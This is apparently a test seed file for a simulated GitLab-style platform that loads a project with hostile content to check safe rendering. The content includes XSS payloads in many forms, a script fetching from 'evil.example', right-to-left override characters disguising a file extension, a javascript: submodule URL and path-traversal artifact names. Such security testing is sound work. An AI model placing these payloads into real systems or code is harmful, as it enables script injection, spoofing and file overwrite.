import { GROUP_PATHS, PROJECT_PATHS } from '../../platform/seed/groups.ts';
import { versionAfter } from '../../platform/world/snippets.ts';
import type { NotificationLevel } from '../../platform/world/notification-settings.ts';
import type { Issue } from '../../platform/world/issues.ts';
import type { Platform } from '../../platform/platform.ts';

/** A script in an event handler, and an override of the text direction. Valid as the name of a branch or file. */
export const hostileName = '<img/src=x/onerror=hacked=1>\u202Egpj.\u2066exe';
/** How the window shows it. */
export const shownName = '<img/src=x/onerror=hacked=1>⟨U+202E⟩gpj.⟨U+2066⟩exe';
const elsewhere = 'https://evil.example';

/** Everything with which a text could run a script or load something. */
const hostileText = [
  `<script>hacked=1; fetch("${elsewhere}/script")</script>`,
  `<img src="${elsewhere}/image.png" onerror="hacked=2"> <svg/onload=hacked=3> <iframe src="${elsewhere}/"></iframe>`,
  '[one](javascript:hacked=4) [two](data:text/html,<script>hacked=5</script>) [three](java&#115;cript:hacked=6)',
  '[four](<java\tscript:hacked=7>) [five][ref] <javascript:hacked=8> <a href="javascript:hacked=9">six</a>',
  `![picture](${elsewhere}/picture.png) ![seven](javascript:hacked=10)`,
  '[ref]: javascript:hacked=11',
  '| <b onclick=hacked=12>cell</b> | \u202Eevird |\n|---|---|\n| [eight](vbscript:hacked=13) | x |',
  '```html\n<script>hacked=14</script>\u2067\n```',
  `Name: ${hostileName}`,
].join('\n\n');

const hostileModules = [
  `[submodule "${hostileName}"]`,
  `path = vendor/${hostileName}`,
  'url = javascript:hacked=16',
  `branch = ${hostileName}`,
].join('\n\t');

/** The number of notes of the long thread; the last one is long. */
export const threadNotes = 300;
/** Longer notes are shown in pieces. */
export const longestNote = 100_000;

/** Give an issue a thread with hundreds of hostile notes and a long last one. */
function addThread({ world, clock }: Platform, issue: Issue): void {
  world.notes.removeWhere((note) => note.noteable_type === 'Issue' && note.noteable_id === issue.id);
  const bodies = Array.from({ length: threadNotes - 1 }, (_, at) =>
    Array.from({ length: 1 + (at % 9) }, () => `${at}: ${hostileName}`).join('\n\n'),
  );
  const long = hostileText.repeat(longestNote / hostileText.length).padEnd(longestNote, 'x');
  for (const [at, body] of [...bodies, long].entries()) {
    const created_at = clock.now() - (threadNotes - at) * 1_000;
    world.notes.add({
      ...{ body, author_id: issue.author_id, created_at, updated_at: created_at },
      ...{ noteable_type: 'Issue', noteable_id: issue.id, noteable_iid: issue.iid, project_id: issue.project_id },
      ...{ system: false, internal: false, resolvable: false, resolved: false },
      ...{ imported: false, imported_from: 'none' },
    });
  }
}

/** Fill the project `acme/core` with hostile names and texts. Commits are made by requests, as any client does. */
export async function seedHostile(platform: Platform) {
  const { world } = platform;
  const project = world.projects.lookup(PROJECT_PATHS.private);
  const isIn = (row: { project_id: number }) => row.project_id === project?.id;
  const issue = world.issues.find((row) => isIn(row) && world.notes.on('Issue', row.id).length > 1);
  const thread = world.issues.find((row) => isIn(row) && row !== issue);
  const mergeRequest = world.mergeRequests.find(
    (row) => isIn(row) && world.notes.on('MergeRequest', row.id).length > 1,
  );
  const snippet = world.snippets.find(({ project_id }) => project_id === project?.id);
  const deployment = world.deployments.filter(isIn).at(-1);
  const label = world.labels.find(({ source }) => source.kind === 'project' && source.id === project?.id);
  const milestone = world.milestones.find(({ source }) => source.kind === 'project' && source.id === project?.id);
  const job = world.jobs.find(({ artifacts }) => artifacts?.files.has('build.json') === true);
  if (!project || !issue || !thread || !mergeRequest || !snippet || !deployment || !label || !milestone || !job) {
    throw new Error('the seed lacks a kind of row');
  }
  addThread(platform, thread);
  const author = world.users.get(issue.author_id);
  if (author !== undefined) author.name = `Author ${hostileName}`;
  label.name = `Label ${hostileName}`;
  milestone.title = `Milestone ${hostileName}`;
  Object.assign(issue, { label_ids: [label.id], milestone_id: milestone.id, assignee_ids: [issue.author_id] });
  for (const [type, row] of [
    ['Issue', issue],
    ['MergeRequest', mergeRequest],
    ['Snippet', snippet],
  ] as const) {
    row.title = `${type} ${hostileName}`;
    row.description = hostileText;
    const [other, note] = world.notes.on(type, row.id);
    if (note !== undefined) Object.assign(note, { body: hostileText, system: false, author_id: issue.author_id });
    if (other !== undefined) Object.assign(other, { body: `renamed to ${hostileName}`, system: true });
  }
  Object.assign(mergeRequest, { source_branch: hostileName, author_id: issue.author_id });
  const files = [{ path: hostileName, content: hostileText }];
  snippet.versions = [versionAfter(undefined, files, world.clock.now())];
  const hook = world.webhooks.find(isIn);
  const mirror = world.remoteMirrors.find((row) => isIn(row) && row.updates.some(({ error }) => error !== null));
  const upload = world.uploads.find(isIn);
  const runner = world.runners.find(({ project_ids: ids }) => ids.includes(project.id));
  const group = world.groups.lookup(GROUP_PATHS.top);
  const website = world.projects.lookup(PROJECT_PATHS.public);
  const member = world.members.direct(project)[0];
  const memberUser = world.users.get(member?.user_id ?? 0);
  if (!hook || !mirror || !upload || !runner || !group || !website || !memberUser) {
    throw new Error('the seed lacks a kind of row');
  }
  Object.assign(hook, { name: `Hook ${hostileName}`, description: hostileText });
  mirror.updates = mirror.updates.map((update) =>
    update.error === null ? update : { ...update, error: `Error ${hostileName}` },
  );
  upload.filename = `upload-${hostileName.replaceAll('/', '')}`;
  runner.description = `Runner ${hostileName}`;
  memberUser.name = `Member ${hostileName}`;
  group.name = `Group ${hostileName}`;
  website.name = `Project ${hostileName}`;
  const environment = world.environments.add({
    ...{ project_id: project.id, name: `review/${hostileName}` },
    ...{ external_url: 'javascript:hacked=15', approval_rules: [] },
  });
  Object.assign(deployment, { environment_id: environment.id, ref: hostileName });
  const wiki = world.wikis.of(project);
  const page = { slug: `docs/${hostileName}`, format: 'markdown' as const, content: hostileText };
  wiki.commit(1, hostileName, new Map([...wiki.pages(), [page.slug, page]]));
  const admin = world.users.byUsername('admin');
  if (admin !== undefined) {
    const setting = world.notificationSettings.of(admin.id, { kind: 'project', id: project.id });
    setting.level = hostileName as NotificationLevel;
    world.notificationSettings.setEmail(admin.id, `email-${hostileName}@example.com`);
  }
  if (job.artifacts !== null) {
    const content = { content: Buffer.from(hostileText), mode: '100644' };
    for (const path of [hostileName, '../../etc/climbing', '/absolute', 'C:\\windows\\back'])
      (job.artifacts.files as Map<string, typeof content>).set(path, content);
  }
  const changes = {
    ...{ branch: hostileName, start_branch: 'main', commit_message: `${hostileName}\n\n${hostileText}` },
    actions: [
      ...['html', 'md'].map((extension) => {
        return { action: 'create', file_path: `hostile/${hostileName}.${extension}`, content: hostileText };
      }),
      { action: 'update', file_path: '.gitmodules', content: hostileModules },
    ],
  };
  const reply = await fetch(`${platform.url}/api/v4/projects/${project.id}/repository/commits`, {
    method: 'POST',
    headers: { 'PRIVATE-TOKEN': platform.tokens.admin, 'Content-Type': 'application/json' },
    body: JSON.stringify(changes),
  });
  if (!reply.ok) throw new Error(`${reply.status} ${await reply.text()}`);
  const { project_id: jobProject } = world.pipelines.get(job.pipeline_id) ?? { project_id: 0 };
  return { project, group, issue, thread, mergeRequest, snippet, page, job: { id: job.id, project: jobProject } };
}
